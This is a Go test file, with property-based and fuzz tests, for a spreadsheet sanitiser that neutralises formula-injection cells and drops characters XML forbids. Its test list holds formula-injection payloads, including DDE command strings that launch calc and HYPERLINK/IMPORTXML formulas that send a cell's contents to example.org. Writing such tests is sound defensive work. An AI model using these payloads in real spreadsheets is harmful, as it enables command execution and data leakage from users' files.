package spreadsheet_test

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf16"
	"unicode/utf8"

	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	"amanat/services/kit/spreadsheet"
)

// injections are cells that one program or another has taken for a formula.
func injections() []string {
	return []string{
		"=1+1", "=cmd|' /C calc'!A0", `=HYPERLINK("https://example.org/?x="&A1,"اینجا")`, "=2+5+cmd|' /C calc'!A0",
		`=IMPORTXML(CONCAT("https://example.org/",A1),"//a")`, "=", "==1", "=شماره",
		"@SUM(1+1)*cmd|' /C calc'!A0", "@SUM", "+1+1", "+989121234567", "+۹۸۹۱۲۱۲۳۴۵۶۷", "-2+3+cmd|' /C calc'!A0", "-1-1",
		"-", "- 5", "-۵", "-٥", "-5.", "-.5", "-1.2.3", "-1,5", "-1e5", "--1", "-0x10", "|cmd",
		"\t=1", "\r=1", "\n=1", "\tمتن", "\rمتن", "\nمتن", " \tمتن", "\u200c\nمتن", "\"\r\"", " =1", "\u00a0=1", "\u3000=1",
		"\u2028=1", "\u0085=1", "\ufeff=1", "\ufeff\ufeff =1", "\u200c=1", "\u200f=1", "\u202e=1", "\u2066=1",
		"\u00ad=1", "\u200b+1", `"=1`, `"" =1`, "\x00=1", "\x01\x02=1", "\v=1", "\f=1", "\ufffe=1", "\uffff@x", "\u007f@x", "\u0080=1", "\u007f\t",
		"＝1", "＋1", "－1", "＠SUM(1)", "｜x", "﹦1", "﹢1", "﹣1", "﹫SUM(1)", "\u200f ＝1", "⁼1", "₊1",
	}
}

func harmless() []string {
	return []string{
		"", "-12.5", "-0", "-7", "12.5", "0", "1405", "۱۲۳", "٤٥٦", "۰۹۱۲۱۲۳۴۵۶۷", "متن فارسی", "می‌خواهم", "\u200fمتن", "\u200cمتن",
		" متن", "متن = ۵", "a=b", "a-b", "۱-۲", "x@example.org", "a|b", "'=1", "'", "''", `"متن"`, `"`, "«-»", "خط نخست\n=1", "خط\r\n-2",
		"a,b;c\td", "—", "–۵", "−5", "_x0041_", "TRUE", "1/2", "👨‍👩‍👧", "<b>&amp;</b>", "\u200c", "\ufeff", " ",
	}
}

func TestInjectionsGetAnApostrophe(t *testing.T) {
	for _, cell := range injections() {
		neutral := spreadsheet.Neutral(cell)
		require.True(t, strings.HasPrefix(neutral, "'"), "%q", cell)
		require.Equal(t, strings.Map(inXML, cell), neutral[1:])
	}
}

func TestHarmlessCellsStayAsTheyAre(t *testing.T) {
	for _, cell := range harmless() {
		require.Equal(t, cell, spreadsheet.Neutral(cell))
	}
}

func TestWhatXMLForbidsIsLeftOut(t *testing.T) {
	require.Equal(t, "متن", spreadsheet.Neutral("م\x00ت\x1fن\ufffe"))
	require.Equal(t, "a\tb\nc\rd\u007f\u0085", spreadsheet.Neutral("a\tb\nc\rd\u007f\u0085"))
	require.Equal(t, "a\ufffdb\ufffd\ufffd", spreadsheet.Neutral("a\xffb\xd9\xed"))
	require.Equal(t, "\ufffd=1", spreadsheet.Neutral("\xff=1"))
}

func TestACellIsCutBetweenTwoCharacters(t *testing.T) {
	const most = 32767
	for name, c := range map[string]struct{ cell, neutral string }{
		"as long as may be":                  {strings.Repeat("س", most), strings.Repeat("س", most)},
		"one too long":                       {strings.Repeat("س", most+1), strings.Repeat("س", most)},
		"characters of two units":            {strings.Repeat("😀", most), strings.Repeat("😀", most/2)},
		"with its apostrophe":                {"=" + strings.Repeat("س", most-1), "'=" + strings.Repeat("س", most-2)},
		"a number that is none when cut off": {"-" + strings.Repeat("1", most-2) + ".5", "'-" + strings.Repeat("1", most-2)},
		"what is left out is not counted":    {strings.Repeat("\x00", most) + "متن", "متن"},
	} {
		t.Run(name, func(t *testing.T) {
			require.True(t, c.neutral == spreadsheet.Neutral(c.cell)) //nolint:testifylint // a difference is too long to print
		})
	}
}

// inXML keeps what is a Char of XML 1.0, by its table.
func inXML(r rune) rune {
	in := r == 0x9 || r == 0xA || r == 0xD || (r >= 0x20 && r <= 0xD7FF) || (r >= 0xE000 && r <= 0xFFFD) || r >= 0x10000
	if !in {
		return -1
	}
	return r
}

// requireHarmless looks at a cell as a program does: what it skips, and then what it finds.
func requireHarmless(t require.TestingT, cell string) {
	require.True(t, utf8.ValidString(cell))
	require.Equal(t, cell, strings.Map(inXML, cell))
	require.LessOrEqual(t, len(utf16.Encode([]rune(cell))), 32767)
	if strings.HasPrefix(cell, "'") {
		return
	}
	rest := []rune(cell)
	for len(rest) > 0 && (unicode.In(rest[0], unicode.Z, unicode.Cc, unicode.Cf) || rest[0] == '"') {
		require.NotContains(t, "\t\r\n", string(rest[0]), "%q", cell)
		rest = rest[1:]
	}
	if len(rest) == 0 {
		return
	}
	if rest[0] == '-' {
		require.Regexp(t, `^-[0-9]+(\.[0-9]+)?$`, cell)
		return
	}
	require.NotContains(t, "=+@|＝＋－＠", string(rest[0]), "%q", cell)
}

// someCell is often dangerous, and sometimes no text at all.
func someCell() *rapid.Generator[string] {
	part := rapid.SampledFrom(strings.Split(`=,+,-,@,|,＝,＋,－,＠,﹦,',",;, ,5,.,a,س,۵,٥,می‌روم,😀`, ","))
	hidden := rapid.SampledFrom([]string{
		",", "\t", "\r", "\n", "\x00", "\x1f", "\ufeff", "\u200c", "\u200f", "\u202e", "\u00a0", "\u0085", "\xff", "\ufffe",
	})
	return rapid.OneOf(
		rapid.String(),
		rapid.Map(rapid.SliceOf(rapid.OneOf(part, hidden)), func(parts []string) string { return strings.Join(parts, "") }),
		rapid.SampledFrom(append(injections(), harmless()...)),
		rapid.Map(rapid.SliceOf(rapid.Byte()), func(raw []byte) string { return string(raw) }),
	)
}

func TestNeutralCellsAreHarmless(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		cell := someCell().Draw(t, "cell")
		neutral := spreadsheet.Neutral(cell)
		requireHarmless(t, neutral)
		require.Equal(t, neutral, spreadsheet.Neutral(neutral))
		kept := strings.Map(inXML, strings.Map(func(r rune) rune { return r }, cell))
		require.Contains(t, []string{kept, "'" + kept}, neutral)
	})
}

func FuzzNeutral(f *testing.F) {
	for _, seed := range append(injections(), harmless()...) {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, cell string) {
		neutral := spreadsheet.Neutral(cell)
		requireHarmless(t, neutral)
		require.Equal(t, neutral, spreadsheet.Neutral(neutral))
	})
}
